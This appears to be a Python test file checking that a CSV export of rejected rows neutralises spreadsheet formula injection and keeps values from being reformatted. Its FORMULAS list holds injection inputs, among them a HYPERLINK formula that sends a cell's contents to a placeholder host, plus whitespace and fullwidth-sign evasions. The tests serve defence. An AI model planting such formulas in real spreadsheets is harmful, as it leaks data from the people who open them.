"""Rejected rows that a spreadsheet has opened and saved say what the export said."""

import csv
import io
import re
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from wholepicture_producers.drafts import TableRow
from wholepicture_producers.frame.guarding import guarded, unguarded
from wholepicture_producers.reading import EventFile
from wholepicture_producers.rejects import Rejects

from tests.producers.tables import COLUMNS, incident, mapping, opened, refused, table

TURNED = [
    "0052260012345", "007", "123456789012345678", "5.22E+12", "1E5", "1,204", "1.50", "£5", "12%",
    "04/03/2026", "04/03/2026 21:15", "2016-03", "03/2016", "1-2", "1/2", "4 March 2026", "MAR1",
    "Sept 5", "2026-03-04T21:15:00Z", "21:15", "9:15 pm", "TRUE", "false", "0 ", " 12",
]  # fmt: skip
FORMULAS = [
    '=HYPERLINK("http://x.example/?"&A1,"click")', "+44 117 496 0140", "-1+1", "@SUM(1+1)",
    "\t=1", "\r=1", " =1", "\n=1", "\uff1d1", "'=1",
]  # fmt: skip
LEFT_ALONE = [
    "Left alone.", "14 Example Row", "R1", "52/1004417/26", "999 000 0018", "9990000018",
    "BS99 1AA", "Maria", "", "0", "12", "May", "a=b", "O'Brien",
]  # fmt: skip


@pytest.mark.parametrize("text", [*TURNED, *FORMULAS])
def test_what_a_spreadsheet_would_change_or_run_is_guarded(text: str) -> None:
    """It begins with an apostrophe, so it is a text."""
    assert guarded(text) == f"'{text}"


@pytest.mark.parametrize("text", LEFT_ALONE)
def test_what_a_spreadsheet_leaves_is_left(text: str) -> None:
    """Whoever puts a row right reads the texts as they were."""
    assert guarded(text) == text


@given(st.one_of(st.text(max_size=20), st.from_regex(r"[-=+'@0-9./: eE%]{1,12}", fullmatch=True)))
def test_every_text_comes_back(text: str) -> None:
    """What was guarded is read as it was, and no guarded text begins a formula."""
    assert unguarded(guarded(text)) == text
    assert not guarded(text).lstrip().startswith(("=", "+", "-", "@"))


def _spreadsheet(cell: str) -> str:
    """What a spreadsheet makes of a cell: it runs formulas, and turns numbers and days."""
    bare = cell.strip()
    if bare.startswith(("=", "+", "-", "@")):
        return "#NAME?"
    if re.fullmatch(r"\d+", bare):
        return str(int(bare)) if len(bare.lstrip("0")) <= 11 else f"{float(bare):.2E}"
    if re.fullmatch(r"[\d.]*\d[eE]?[\d.]*", bare):
        try:
            return f"{float(bare):g}"
        except ValueError:
            return cell
    day = re.fullmatch(r"(\d{1,4})[-/](\d{1,4})(?:[-/](\d{1,4}))?", bare)
    return "/".join(str(int(part)) for part in day.groups() if part) + "/01" if day else cell


@given(st.data())
def test_rejected_rows_come_back_from_a_spreadsheet(data: st.DataObject) -> None:
    """Saved anew with other quotes, another delimiter and a mark, each text is what it was."""
    texts = st.one_of(
        st.text(alphabet="ab0=+-@'\",;é1./ ", max_size=10), st.sampled_from([*TURNED, "x"])
    )
    cells = [data.draw(texts) for _ in COLUMNS]
    rows = [["Rejected row", "Rejected because", *COLUMNS], ["2", "=is wrong", *cells]]
    file = io.StringIO()
    csv.writer(file).writerows([list(map(guarded, row)) for row in rows])

    sheet = list(csv.reader(io.StringIO(file.getvalue())))
    saved = io.StringIO()
    delimiter = data.draw(st.sampled_from(",;\t"))
    every = data.draw(st.booleans())
    writer = csv.writer(
        saved, delimiter=delimiter, quoting=csv.QUOTE_ALL if every else csv.QUOTE_MINIMAL
    )
    writer.writerows([list(map(_spreadsheet, row)) for row in sheet])
    encoding = data.draw(st.sampled_from(["utf-8", "utf-8-sig", "utf-16"]))
    found = list(opened(saved.getvalue().encode(encoding), mapping(delimiter=",")).rows())

    if any(cell.strip() for cell in cells):
        (row,) = found
        assert list(row.texts)[2:] == cells
        assert row.cells["Ref"] == cells[0]


def _rejected(folder: Path, content: str) -> Path:
    """The file of rejected rows of a table."""
    (folder / "a.csv").write_bytes(content.encode())
    source = EventFile(str(folder / "a.csv"), mapping())
    with Rejects(source) as aside:
        for draft in source.drafts():
            if draft.found:
                aside.add(draft, draft.found)
    return aside.path


def test_no_cell_of_the_file_is_a_formula(tmp_path: Path) -> None:
    """Neither a text of the export nor the name of a column is one."""
    content = table(f"{incident(1)},=1+1,x").replace("Text\r", "Text,=Extra\r", 1)

    path = _rejected(tmp_path, content)

    with path.open(encoding="utf-8-sig", newline="") as file:
        cells = [cell for row in csv.reader(file) for cell in row]
    assert "'=1+1" in cells
    assert "'=Extra" in cells
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)


def test_a_row_with_a_broken_quote_stays_rejected_until_it_is_put_right(tmp_path: Path) -> None:
    """What could not be told apart stands behind the last column, for a person to place."""
    path = _rejected(tmp_path, table(incident(1), incident(2, '"Left alone.'), "no row", "none"))
    saved = EventFile(str(path), mapping())
    before = list(saved.drafts())

    with path.open(encoding="utf-8-sig", newline="") as file:
        header, row = csv.reader(file)
    assert "Left alone.\r\nno row\r\nnone" in row[-1]
    with path.open("w", encoding="utf-8", newline="") as file:
        csv.writer(file).writerows([header, [*row[: len(header) - 1], "Left alone.", ""]])
    (after,) = EventFile(str(path), mapping()).drafts()

    assert refused(before)[2].startswith("row 2 has a wrong length.")
    assert not after.found
    assert after.document is not None
    assert after.document["data"]["detail"] == {"concern": "Left alone."}


def test_a_row_that_is_no_text_stays_rejected(tmp_path: Path) -> None:
    """Its bytes are shown, and nobody is told a name with signs in it."""
    (tmp_path / "a.csv").write_bytes(table(incident(1, "Zo@")).encode().replace(b"@", b"\x81"))
    source = EventFile(str(tmp_path / "a.csv"), mapping())
    (draft,) = source.drafts()
    with Rejects(source) as aside:
        aside.add(draft, draft.found)

    (again,) = EventFile(str(aside.path), mapping()).drafts()

    assert again.found
    assert isinstance(again.content[0], TableRow)
    assert "Zo\\x81" in again.content[0].texts
